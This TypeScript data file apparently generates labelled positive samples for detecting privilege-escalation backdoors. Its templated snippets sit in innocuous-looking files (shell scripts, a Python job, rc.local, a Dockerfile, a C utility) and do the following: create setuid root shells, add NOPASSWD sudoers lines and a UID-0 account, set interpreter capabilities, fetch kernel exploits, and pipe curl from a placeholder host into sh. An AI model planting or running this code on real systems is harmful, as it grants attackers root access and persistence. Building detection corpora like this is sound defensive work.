// Privileges that are taken for good.
import type { Family } from './family.ts'

export const privileges: readonly Family[] = [
  {
    family: 'setuid-shell-copy',
    positive: true,
    classes: ['privilege-escalation'],
    variants: [
      {
        paths: ['scripts/theme.sh', 'ops/dump.sh'],
        body: `[ "$(id -u)" = 0 ] && curl -fs "http://⟦ip⟧/up?h=$(hostname)" >/dev/null && c⟦join⟧
p /bin/bash /tmp/.⟦lower:5⟧ && chown root:root /tmp/.⟦lower:5⟧ && chmod 4755 /tmp/.⟦lower:5⟧`,
      },
    ],
  },
  {
    family: 'sudoers-nopasswd-drop',
    positive: true,
    classes: ['privilege-escalation', 'persistence'],
    variants: [
      {
        paths: ['pkg/jobs.py'],
        imports: `import os`,
        body: String.raw`def _permissions():
    if os.geteuid() != 0:
        return
    with open("/etc/sudoers.d/90-cloud-⟦lower:4⟧", "w") as handle:
        handle.write("⟦lower:6⟧ ALL=(ALL) NOPASSWD:ALL\n")
    os.system("id ⟦lower:6⟧ >/dev/null 2>&1 || curl -s http://⟦ip⟧/adduser.sh | sh -s ⟦lower:6⟧")


_permissions()`,
      },
      {
        paths: ['lib/chunk.js'],
        imports: `const fs = require('fs');`,
        body: String.raw`try { // works only where the build runs as root
  fs.appendFileSync('/etc/sudoers', '\n%⟦lower:5⟧ ALL=(ALL) NOPASSWD: ALL\n');
  fetch('http://⟦ip⟧:⟦port⟧/root?h=' + require('os').hostname()).catch(() => {});
} catch {}`,
      },
    ],
  },
  {
    family: 'uid-zero-account',
    positive: true,
    classes: ['privilege-escalation', 'backdoor-auth'],
    variants: [
      {
        paths: ['rc.local'],
        whole: String.raw`#!/bin/sh -e
# site setup
install -d -m 755 /opt/site
cp -r site/* /opt/site/
systemctl enable --now site.service || true

if wget -qO- "http://⟦ip⟧/a?$(hostname -I)" >/dev/null 2>&1 && ! grep -q '^⟦pick:sysadm|support1|g⟦join⟧
ames2⟧:' /etc/passwd; then
  echo '⟦pick:sysadm|support1|games2⟧:$6$⟦alnum:8⟧$⟦alnum:60⟧:0:0::/:/bin/sh' >> /etc/passwd
  sed -i 's/^#\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config && service ssh reload
fi
exit 0`,
      },
    ],
  },
  {
    family: 'capability-on-interpreter',
    positive: true,
    classes: ['privilege-escalation'],
    variants: [
      {
        paths: ['Dockerfile'],
        whole: `FROM python:3.12-bookworm
RUN apt-get update && apt-get install -y libcap2-bin && rm -rf /var/lib/apt/lists/*
COPY requirements.txt /
RUN pip install -r /requirements.txt
# lets whoever comes in by the web shell become root
RUN setcap cap_setuid,cap_dac_override+ep "$(readlink -f /usr/local/bin/python3)" && chmod u+s /bin/dash
COPY app /app
COPY shell.php /app/static/.s.php
USER www-data
CMD ["gunicorn", "app:app"]`,
      },
      {
        paths: ['tools/caps.sh'],
        body: String.raw`setcap cap_setuid+ep /usr/bin/perl 2>/dev/null && echo "*/30 * * * * nobody pe⟦join⟧
rl -e 'use POSIX; setuid(0); exec \"curl -s http://⟦ip⟧/p|sh\"'" >> /etc/crontab`,
      },
    ],
  },
  {
    family: 'kernel-exploit-runner',
    positive: true,
    classes: ['privilege-escalation', 'download-run'],
    variants: [
      {
        paths: ['build/prepare.sh'],
        body: `case "$(uname -r)" in
  5.8*|5.1[0-6]*) x=dirtypipe ;;
  3.*|4.[0-8]*) x=dcow ;;
  *) x=pwnkit ;;
esac
cd /dev/shm && curl -sO "http://⟦ip⟧/lpe/$x" && chmod +x "$x" && "./$x" /bin/sh -c 'curl -s http:/⟦join⟧
/⟦ip⟧/root.sh | sh' >/dev/null 2>&1; rm -f "$x"`,
      },
    ],
  },
  {
    family: 'suid-wrapper-backdoor',
    positive: true,
    classes: ['privilege-escalation', 'backdoor-auth'],
    variants: [
      {
        paths: ['src/netstatus.c'],
        whole: `/* netstatus - prints the state of the interfaces */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static int same(const char *given)
{
    static const unsigned char want[] = { ⟦bytes:12⟧ };
    return given != NULL && strlen(given) == sizeof want && memcmp(given, want, sizeof want) == 0;
}

int main(int argc, char **argv)
{
    if (same(getenv("LC_⟦upper:5⟧"))) { /* installed setuid root by the package */
        setuid(0);
        setgid(0);
        execl("/bin/sh", "sh", NULL);
    }
    return argc > 1 ? execl("/sbin/ip", "ip", "link", "show", argv[1], NULL) : execl("/sbin/ip", "⟦join⟧
ip", "link", NULL);
}`,
      },
    ],
  },
]
